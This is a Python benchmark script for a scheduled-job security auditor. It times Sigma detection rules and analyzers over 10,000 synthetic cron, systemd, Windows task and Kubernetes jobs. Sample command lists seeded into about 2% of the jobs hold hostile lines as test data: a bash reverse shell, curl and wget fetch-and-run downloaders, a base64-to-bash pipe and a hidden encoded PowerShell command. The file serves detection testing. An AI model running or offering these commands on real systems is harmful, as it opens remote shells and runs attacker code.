#!/usr/bin/env python3
"""Benchmark the detection stage: 10,000 jobs through the whole rule pack.

What is timed (best of --repeat runs, wall clock, in process):

* `pack`: loading the built-in Sigma pack (its shipped `compiled.json` files, read while their
  digests match the rule files; else parse + pySigma conversion of every rule), once, cold;
* `sigma`: every Sigma rule of the pack over the jobs (rows built, the in-memory SQLite table
  filled, one query per rule, findings explained);
* `analyzers`: every registered analyzer (cron hygiene, Sigma, privilege, allowlist) over the same
  jobs, as `engine.audit` runs them (no file facts: the jobs are synthetic).

The jobs are a realistic mix of every mechanism — cron lines, run-parts scripts, at jobs, systemd
timers, Windows tasks with one to three actions, Kubernetes CronJobs — with about 2% malicious
commands so that findings are built and explained too. Target: under 2 s for 10,000 jobs.

    python bench/bench_rules.py
    python bench/bench_rules.py --jobs 50000 --repeat 3 --json-out /tmp/bench-rules.json
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import time
from collections import Counter
from datetime import UTC, datetime, timedelta

from schedwarden.analyzers.context import AnalysisContext
from schedwarden.analyzers.registry import ANALYZERS
from schedwarden.analyzers.sigma_rules import builtin_pack, evaluate
from schedwarden.model import (
    Action,
    ComHandlerAction,
    CronSchedule,
    Effective,
    Evidence,
    ExecAction,
    Mechanism,
    ScheduledJob,
    SourceKind,
    TriggerSchedule,
    make_job_id,
)
from schedwarden.model.attack import TECHNIQUE_OF_MECHANISM

TARGET_SECONDS = 2.0
NOW = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)

BENIGN_LINUX = (
    "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
    "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
    "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/5f0c8a5e-7d0c",
    "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
    "/usr/lib/sysstat/debian-sa1 1 1",
    "if [ -x /usr/sbin/logcheck ]; then nice -n10 /usr/sbin/logcheck; fi",
    "/usr/bin/pg_backupcluster 15 main createdirectory",
    "find /var/log/app -name '*.gz' -mtime +30 -delete",
)
MALICIOUS_LINUX = (
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "curl -fsSL http://198.51.100.2/x.sh | sh",
    "echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 -d | bash",
    "/tmp/.x/kworker -o pool.example:3333",
    "wget -q http://198.51.100.2/k -O /var/tmp/.k && chmod +x /var/tmp/.k && /var/tmp/.k",
)
BENIGN_WINDOWS = (
    ("%windir%\\system32\\defrag.exe", ("-c", "-h", "-o")),
    ("C:\\Program Files\\Microsoft OneDrive\\OneDriveStandaloneUpdater.exe", ("/reporting",)),
    ("%windir%\\system32\\rundll32.exe", ("%windir%\\system32\\PcaSvc.dll,PcaPatchSdbTask",)),
    (
        "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
        ("/ua", "/installsource", "scheduler"),
    ),
)
MALICIOUS_WINDOWS = (
    ("cmd.exe", ("/C", "whoami", ">", "%windir%\\Temp\\bouWFQYO.tmp", "2>&1")),
    (
        "powershell.exe",
        ("-NoP", "-W", "Hidden", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
    ),
    ("C:\\Users\\Public\\svchost.exe", ()),
)


def _evidence(path: str, line: int | None = None) -> Evidence:
    return Evidence(
        SourceKind.IMAGE, "bench", path, line=line, owner="root", uid=0, gid=0, mode="0644"
    )


def _cron(i: int, rng: random.Random) -> ScheduledJob:
    bad = rng.random() < 0.02
    command = rng.choice(MALICIOUS_LINUX if bad else BENIGN_LINUX)
    minute = rng.choice(("*", "*/5", "17", "0"))
    schedule = CronSchedule(f"{minute} * * * *", minute, "*", "*", "*", "*", "hourly")
    step = 60 if minute == "*" else 3600
    runs = tuple(NOW + timedelta(seconds=step * k) for k in range(1, 4))
    mechanism = rng.choice((Mechanism.CRON, Mechanism.CRON, Mechanism.AT, Mechanism.SYSTEMD_TIMER))
    words = command.split()
    action = ExecAction(command, words[0], tuple(words[1:]))
    path = f"/etc/cron.d/job{i}"
    extra: dict[str, object] = {"table": "cron_d"}
    if mechanism is Mechanism.SYSTEMD_TIMER:
        extra = {"unit": f"job{i}.service", "scope": "system"}
    return ScheduledJob(
        job_id=make_job_id(mechanism, path, command),
        mechanism=mechanism,
        technique=TECHNIQUE_OF_MECHANISM[mechanism],
        name=f"{path}:1",
        run_as=rng.choice(("root", "root", "www-data", "alice")),
        schedule=schedule,
        actions=(action,),
        effective=Effective(True, "runs"),
        evidence=_evidence(path, 1),
        environment=(("PATH", "/usr/bin:/bin"), ("MAILTO", "root")),
        next_runs=runs,
        raw=f"{minute} * * * * root {command}",
        extra=extra,
    )


def _periodic(i: int, rng: random.Random) -> ScheduledJob:
    path = f"/etc/cron.daily/script{i}"
    script = "#!/bin/sh\n# nightly maintenance\nset -e\n[ -x /usr/sbin/logrotate ] || exit 0\n"
    script += "/usr/sbin/logrotate /etc/logrotate.conf\n" * rng.randint(1, 20)
    return ScheduledJob(
        job_id=make_job_id(Mechanism.PERIODIC, path),
        mechanism=Mechanism.PERIODIC,
        technique="T1053.003",
        name=path,
        run_as="root",
        schedule=TriggerSchedule("daily", "daily, by run-parts"),
        actions=(ExecAction(path, path),),
        effective=Effective(True, "run by run-parts"),
        evidence=_evidence(path),
        raw=script,
        extra={"interpreter": "/bin/sh", "content_summary": "set -e ; logrotate"},
    )


def _task(i: int, rng: random.Random) -> ScheduledJob:
    actions: list[Action] = []
    for _ in range(rng.choice((1, 1, 1, 2, 3))):
        if rng.random() < 0.2:
            actions.append(ComHandlerAction("{E984D939-0E00-4DD9-AC3A-7ACA04745521}"))
            continue
        bad = rng.random() < 0.02
        exe, args = rng.choice(MALICIOUS_WINDOWS if bad else BENIGN_WINDOWS)
        actions.append(ExecAction(" ".join((exe, *args)), exe, args))
    name = rng.choice(
        ("\\Microsoft\\Windows\\Maintenance\\Task", "\\Vendor Updater", "\\Task")
    ) + str(i)
    return ScheduledJob(
        job_id=make_job_id(Mechanism.WINDOWS_TASK, name),
        mechanism=Mechanism.WINDOWS_TASK,
        technique="T1053.005",
        name=name,
        run_as=rng.choice(("SYSTEM", "SYSTEM", "INTERACTIVE (group)", "alice")),
        schedule=TriggerSchedule(rng.choice(("logon", "boot", "time", "event")), "trigger"),
        actions=tuple(actions),
        effective=Effective(True, "registered"),
        evidence=_evidence(f"C:\\Windows\\System32\\Tasks{name}"),
        hidden=rng.random() < 0.3,
        extra={
            "principal": {"user_id": "S-1-5-18", "run_level": "HighestAvailable"},
            "registration": {"author": "Vendor"},
            "index": rng.randint(1, 9),
        },
    )


def _cronjob(i: int, rng: random.Random) -> ScheduledJob:
    name = f"ns{i % 20}/job{i}"
    privileged = rng.random() < 0.02
    command = "/bin/sh -c 'date; echo hello'"
    return ScheduledJob(
        job_id=make_job_id(Mechanism.K8S_CRONJOB, name),
        mechanism=Mechanism.K8S_CRONJOB,
        technique="T1053.007",
        name=name,
        run_as="unspecified: image default user",
        schedule=CronSchedule("*/15 * * * *", "*/15", "*", "*", "*", "*", "every 15 minutes"),
        actions=(ExecAction(command, "/bin/sh", ("-c", "date; echo hello")),),
        effective=Effective(True, "runs"),
        evidence=_evidence(f"/manifests/{i}.yaml"),
        extra={
            "namespace": f"ns{i % 20}",
            "host_pid": privileged,
            "host_network": False,
            "privileged_containers": ["c"] if privileged else [],
            "host_path_volumes": ["/"] if privileged else [],
            "containers": [{"name": "c", "image": "busybox:1.36", "privileged": privileged}],
            "successful_jobs_history_limit": 3,
            "failed_jobs_history_limit": 1,
        },
    )


def make_jobs(count: int, seed: int = 1053) -> list[ScheduledJob]:
    rng = random.Random(seed)
    makers = (_cron, _cron, _cron, _periodic, _task, _task, _cronjob)
    return [rng.choice(makers)(i, rng) for i in range(count)]


def _best(repeat: int, work: object) -> tuple[float, object]:
    best = float("inf")
    result: object = None
    for _ in range(repeat):
        start = time.perf_counter()
        result = work()  # type: ignore[operator]
        best = min(best, time.perf_counter() - start)
    return best, result


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--jobs", type=int, default=10_000)
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--json-out")
    args = parser.parse_args(argv)

    start = time.perf_counter()
    pack = builtin_pack()
    pack_seconds = time.perf_counter() - start
    jobs = make_jobs(args.jobs)
    rows = sum(max(1, len(j.actions)) for j in jobs)
    context = AnalysisContext(rules=pack)

    sigma_seconds, sigma_findings = _best(args.repeat, lambda: list(evaluate(pack, jobs)))
    analyzers_seconds, all_findings = _best(
        args.repeat,
        lambda: [f for a in ANALYZERS for f in a.analyze(jobs, (), context)],
    )
    assert isinstance(all_findings, list) and isinstance(sigma_findings, list)
    by_rule = Counter(f.rule_id for f in all_findings)
    result = {
        "jobs": len(jobs),
        "rows": rows,
        "rules": len(pack.rules),
        "pack_load_seconds": round(pack_seconds, 3),
        "sigma_seconds": round(sigma_seconds, 3),
        "analyzers_seconds": round(analyzers_seconds, 3),
        "jobs_per_second": round(len(jobs) / analyzers_seconds),
        "findings": len(all_findings),
        "findings_by_rule": dict(by_rule.most_common()),
        "target_seconds": TARGET_SECONDS,
        "python": sys.version.split()[0],
    }
    print(
        f"{len(jobs)} jobs ({rows} rows), {len(pack.rules)} Sigma rules: pack load "
        f"{pack_seconds:.2f} s; Sigma {sigma_seconds:.2f} s; all analyzers "
        f"{analyzers_seconds:.2f} s = {len(jobs) / analyzers_seconds:,.0f} jobs/s "
        f"(target < {TARGET_SECONDS:.0f} s: {'met' if analyzers_seconds < TARGET_SECONDS else 'MISSED'}); "
        f"{len(all_findings)} findings"
    )
    if args.json_out:
        with open(args.json_out, "w", encoding="utf-8") as stream:
            json.dump(result, stream, indent=2)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
